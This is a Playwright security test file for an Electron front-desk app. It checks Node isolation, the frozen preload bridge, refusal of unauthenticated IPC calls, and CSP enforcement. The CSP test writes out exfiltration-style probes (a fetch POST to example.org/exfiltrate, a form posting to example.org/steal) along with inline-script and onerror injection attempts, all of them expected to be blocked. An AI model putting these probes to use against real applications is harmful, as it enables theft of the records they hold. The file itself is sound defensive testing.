import type { Page } from '@playwright/test'
import { expect, signInAtDesk, test } from './fixtures'

/**
 * What the page itself can do, run in Chromium against the test host, which sends the same
 * Content Security Policy as the Electron window. (Electron's own navigation and window-open
 * handlers, which no browser page can stand in for, are tested in test/unit/electron-main.test.ts.)
 */

/** Collects the CSP violations the page reports, by directive. */
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen: string[] = []
    ;(window as unknown as { __violations: string[] }).__violations = seen
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
  })
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)

test('the page cannot reach Node: no require, process, module or Buffer, and the bridge cannot be replaced', async ({ page, host, api }) => {
  void api
  await signInAtDesk(page, host)
  const globals = await page.evaluate(() => ({
    require: typeof (globalThis as Record<string, unknown>).require,
    process: typeof (globalThis as Record<string, unknown>).process,
    module: typeof (globalThis as Record<string, unknown>).module,
    Buffer: typeof (globalThis as Record<string, unknown>).Buffer,
    global: typeof (globalThis as Record<string, unknown>).global,
  }))
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined', global: 'undefined' })
  const bridge = await page.evaluate(() => {
    const descriptor = Object.getOwnPropertyDescriptor(window, 'porchlight')
    const api = (window as unknown as { porchlight: Record<string, Record<string, unknown>> }).porchlight
    let replaced = true
    try {
      ;(window as unknown as { porchlight: unknown }).porchlight = {}
    } catch {
      replaced = false
    }
    return {
      frozen: Object.isFrozen(api),
      configurable: descriptor?.configurable,
      writable: descriptor?.writable,
      stillTheBridge: (window as unknown as { porchlight: unknown }).porchlight === api,
      replaced,
      onlyFunctions: Object.values(api).every((group) => Object.values(group).every((member) => typeof member === 'function')),
    }
  })
  expect(bridge).toMatchObject({ frozen: true, configurable: false, writable: false, stillTheBridge: true, onlyFunctions: true })
})

test('without a session every records channel answers with an error envelope, and a call without the token is refused', async ({ page, host, api }) => {
  void api
  await page.goto(host.url)
  await expect(page.getByRole('textbox', { name: 'Username' })).toBeVisible()
  const answers = await page.evaluate(async () => {
    const p = (window as unknown as { porchlight: Record<string, Record<string, (input: unknown) => Promise<unknown>>> }).porchlight
    return [
      await p.participants!.search!({ text: 'a' }),
      await p.participants!.get!({ id: 1 }),
      await p.visits!.signIn!({ participantId: null, services: [] }),
      await p.catalog!.all!({}),
      await p.kiosk!.find!({ code: 'ABCD' }),
    ]
  })
  for (const answer of answers) expect(answer).toMatchObject({ ok: false, error: { code: 'NOT_SIGNED_IN' } })

  // A request that did not come through the bridge (no token): refused at the host's door.
  const forged = await page.evaluate(async () => {
    const response = await fetch('/__ipc/participants.search', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-porchlight-client': crypto.randomUUID() },
      body: JSON.stringify({ text: 'a' }),
    })
    return { status: response.status, body: (await response.json()) as unknown }
  })
  expect(forged).toMatchObject({ status: 401, body: { ok: false, error: { code: 'BAD_SENDER' } } })
})

test('the CSP blocks inline script, inline handlers and every way out: fetch, frames, forms, base', async ({ page, host, api }) => {
  void api
  await signInAtDesk(page, host)
  await watchViolations(page)
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>
    const inline = document.createElement('script')
    inline.textContent = 'window.__inlineRan = true'
    document.head.append(inline)

    const img = document.createElement('img')
    img.setAttribute('onerror', 'window.__handlerRan = true')
    img.src = 'data:,not-an-image'
    document.body.append(img)

    let fetchBlocked = false
    try {
      await fetch('https://example.org/exfiltrate', { method: 'POST', body: 'records' })
    } catch {
      fetchBlocked = true
    }

    const frame = document.createElement('iframe')
    frame.src = 'https://example.org/'
    document.body.append(frame)

    const base = document.createElement('base')
    base.href = 'https://example.org/'
    document.head.append(base)

    const form = document.createElement('form')
    form.action = 'https://example.org/steal'
    form.method = 'post'
    document.body.append(form)
    form.submit()

    await new Promise((resolve) => setTimeout(resolve, 500))
    frame.remove()
    img.remove()
    return { inlineRan: w.__inlineRan === true, handlerRan: w.__handlerRan === true, fetchBlocked, origin: location.origin }
  })
  expect(outcome).toEqual({ inlineRan: false, handlerRan: false, fetchBlocked: true, origin: host.origin })
  expect(new Set(await violations(page))).toEqual(
    new Set(['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'base-uri', 'form-action']),
  )
  // (eval cannot be tried from here: Playwright evaluates outside the page's CSP. The policy has no 'unsafe-eval'.)
  // Still on the app page, still working.
  // (Playwright waits on the refused form submission as if it were a navigation, so ask the page directly.)
  expect(await page.evaluate(() => ({ origin: location.origin, desk: document.querySelector('[role="combobox"]') !== null }))).toEqual({
    origin: host.origin,
    desk: true,
  })
})

test('the app offers no way out: no link or form points off the app page', async ({ page, host, api }) => {
  await api.call('participants.create', { firstName: 'Marisol', lastName: 'Vega' })
  await signInAtDesk(page, host)
  const popups: string[] = []
  page.on('popup', (popup) => popups.push(popup.url()))
  for (const name of ['Front desk', 'Participants', 'Settings']) {
    await page.getByRole('link', { name }).or(page.getByRole('tab', { name })).or(page.getByRole('button', { name })).first().click()
    const leaving = await page.evaluate(() =>
      Array.from(document.querySelectorAll<HTMLAnchorElement | HTMLFormElement>('a[href], form[action], area[href]'))
        .map((element) => (element instanceof HTMLFormElement ? element.action : element.href))
        .filter((url) => new URL(url, location.href).origin !== location.origin),
    )
    expect(leaving, name).toEqual([])
  }
  expect(popups).toEqual([])
})
